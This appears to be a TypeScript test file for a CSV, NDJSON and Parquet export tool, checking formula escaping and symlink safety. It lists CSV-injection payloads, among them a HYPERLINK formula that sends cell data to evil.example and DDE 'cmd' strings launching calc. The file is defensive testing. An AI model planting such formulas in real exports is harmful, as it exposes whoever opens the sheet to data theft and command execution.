/** Words of people in a table: a spreadsheet must not run them, and the exact formats must not change them. */
import { lstat, readFile, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { asyncBufferFromFile, parquetReadObjects } from 'hyparquet'
import t from 'tap'
import { z } from 'zod'
import { collection } from '../../readmodels/collection.js'
import { exportToFile } from '../../src/cli/export-documents.js'
import { folderWith } from '../adapters/folder.js'
import { ReplayFixture } from '../engine/replay/fixture.js'
import { vitrine } from '../harness/command.js'
import { registered } from '../spec/events.js'

/** By the list of OWASP, and what hides its signs. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Prize")',
  '=1+1',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tx',
  '\rx',
  '  =1+1',
  '\u00a0=1',
  '\u200b=1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=',
  '-',
  '-5 apples',
]
const HARMLESS = ['Ada', '1 = 1', 'a=b', '', '"quoted"', "o'clock", '-5', '+5', '-1.5e3', '5', ' 5 ', '{"=":1}']

const Row = z.object({ _id: z.string(), words: z.string(), count: z.number(), either: z.union([z.string(), z.number()]) })
const rows = collection({ name: 'rows', schema: Row, indexes: [] })

async function* documents() {
  for (const [n, words] of [...FORMULAS, ...HARMLESS].entries()) yield { _id: `r${n}`, words, count: -n - 1, either: n === 0 ? '=1+1' : -n }
}

t.test('a formula becomes text, everything else stays as it is', async (t) => {
  const folder = folderWith()
  await exportToFile(join(folder, 'rows.csv'), rows, documents())
  const [head, ...cells] = parseCsv(await readFile(join(folder, 'rows.csv'), 'utf8'))
  t.strictSame(head, ['_id', 'words', 'count', 'either'])
  for (const [n, words] of [...FORMULAS, ...HARMLESS].entries()) {
    const [, text, count, either] = cells[n] ?? []
    const safe = words.replace(/[\t\r\n](?==)/, "$&'")
    t.equal(text, n < FORMULAS.length ? `'${safe}` : words, JSON.stringify(words))
    t.equal(count, String(-n - 1), 'a number stays a number')
    t.equal(either, n === 0 ? `'"=1+1"` : String(-n), 'also in a column of several types')
  }
})

t.test('a formula becomes text also where `;` or a tab separates cells', async (t) => {
  const folder = folderWith()
  const words = ["Ann;=cmd|' /C calc'!A0;", 'hello;"=1+2";x', 'a\t@SUM(1)', 'a; =1', 'a;b', 'a\n+1;-1']
  async function* documents() {
    for (const each of words) yield { _id: each, words: each, count: 1, either: 1 }
  }
  await exportToFile(join(folder, 'rows.csv'), rows, documents())
  const table = await readFile(join(folder, 'rows.csv'), 'utf8')
  for (const part of table.split(/[,;\t\r\n]/)) t.notMatch(part, /^[\s"]*[=+@-]/, JSON.stringify(part))
  t.match(table, /"a;b"/, 'and nothing else is changed')
})

t.test('NDJSON and Parquet are exact', async (t) => {
  const folder = folderWith()
  for (const format of ['ndjson', 'parquet']) await exportToFile(join(folder, `rows.${format}`), rows, documents())
  const lines = (await readFile(join(folder, 'rows.ndjson'), 'utf8')).trimEnd().split('\n')
  const expected = [...FORMULAS, ...HARMLESS]
  t.strictSame(
    lines.map((line) => JSON.parse(line).words),
    expected,
  )
  const parquet = await parquetReadObjects({ file: await asyncBufferFromFile(join(folder, 'rows.parquet')) })
  t.strictSame(
    parquet.map(({ words }) => words),
    expected,
  )
})

t.test('a link that was planted under the name of the unfinished file is not followed', async (t) => {
  const folder = folderWith()
  const victim = join(folder, 'victim')
  await writeFile(victim, 'mine')
  for (const format of ['ndjson', 'csv', 'parquet']) {
    const path = join(folder, `rows.${format}`)
    await symlink(victim, `${path}.part`)
    await exportToFile(path, rows, documents())
    t.equal(await readFile(victim, 'utf8'), 'mine', format)
    t.ok((await lstat(path)).isFile(), 'and the export is a file of its own')
  }
})

t.test('a display name of an event is no live cell', async (t) => {
  const [displayName = ''] = FORMULAS
  const fixture = await ReplayFixture.open(t, registered('ada', { displayName }))
  const out = join(fixture.folder.path, 'profiles.csv')
  t.match(await vitrine(['replay', 'profiles', '--out', out, '--data-dir', fixture.folder.path]), { code: 0 })
  const written = parseCsv(await readFile(out, 'utf8')).flat()
  t.ok(written.includes(`'${displayName}`))
  t.notOk(written.includes(displayName))
})

/** RFC 4180, as far as it is used here. */
function parseCsv(text: string): string[][] {
  const found: string[][] = [[]]
  for (const [, quoted, bare, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n)/g)) {
    found.at(-1)?.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'))
    if (end === '\n') found.push([])
  }
  return found.slice(0, -1)
}
